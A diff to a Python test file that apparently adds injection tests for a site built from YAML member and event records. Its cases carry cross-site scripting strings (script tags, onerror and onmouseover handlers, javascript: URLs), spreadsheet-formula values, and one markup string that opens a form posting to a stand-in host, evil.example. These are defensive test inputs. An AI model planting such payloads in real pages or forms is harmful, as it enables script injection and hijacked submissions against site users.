@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from tests.contributions.network import NETWORK, OTHERS
 from tests.contributions.story import HARMLESS, Story, post, slug, unlike
 
 
@@ -28,6 +29,7 @@ def named(name: str, told: str, path: str, text: str | bytes, within: tuple[int,
 MEMBERS = (
     member("a script in its about", "about: |\n  <script>alert(1)</script>", "error[unsafe-html]", (5, 5)),
     member("elements in its short name", "short_name: '<b onmouseover=alert(1)>x</b>'"),
+    member("headings that are our own", "about: |\n  ## T nav\n\n  ## T main\n\n  ## _t-clock"),
     member("a formula", "short_name: '=1+1'\nidentifiers: {wikidata: '@SUM(A1)', org_id: '+1', ror: '-1'}"),
     member("a website that is a script", "website: javascript:alert(1)", "error[bad-url]", (4, 4)),
     member(
@@ -139,6 +141,22 @@ MEMBERS = (
         "id: json-end\nname: '\"}]}</script><script>alert(1)</script>'\ncountry: FJ\n",
     ),
     named(
+        "a member whose name ends a field and the list of a form",
+        HARMLESS,
+        "members/form-end.yml",
+        "id: form-end\nname: '\"></option></datalist></template><form action=//evil.example><button data-m=x>x'\ncountry: FJ\n",
+    ),
+    Story(
+        "a country whose name is a script",
+        {
+            "network.yml": NETWORK.replace(
+                "{code: FJ, ", "{code: FJ, name: {en: '\"><script>alert(1)</script>', ko: '\" data-m=\"x'}, "
+            )
+        },
+        alone=True,
+        changes=frozenset(OTHERS),
+    ),
+    named(
         "a member of five thousand signs",
         HARMLESS,
         "members/long.yml",
@@ -166,6 +184,7 @@ EVENTS = (
         "error[unsafe-html]",
         (5, 5),
     ),
+    event("headings that are our own", "description: |\n  ## T clock\n\n  ## T nav"),
     event("elements in an agenda", "agenda: [{title: '<img src=x onerror=alert(1)>', minutes: 5}]"),
     event(
         "elements in its place",
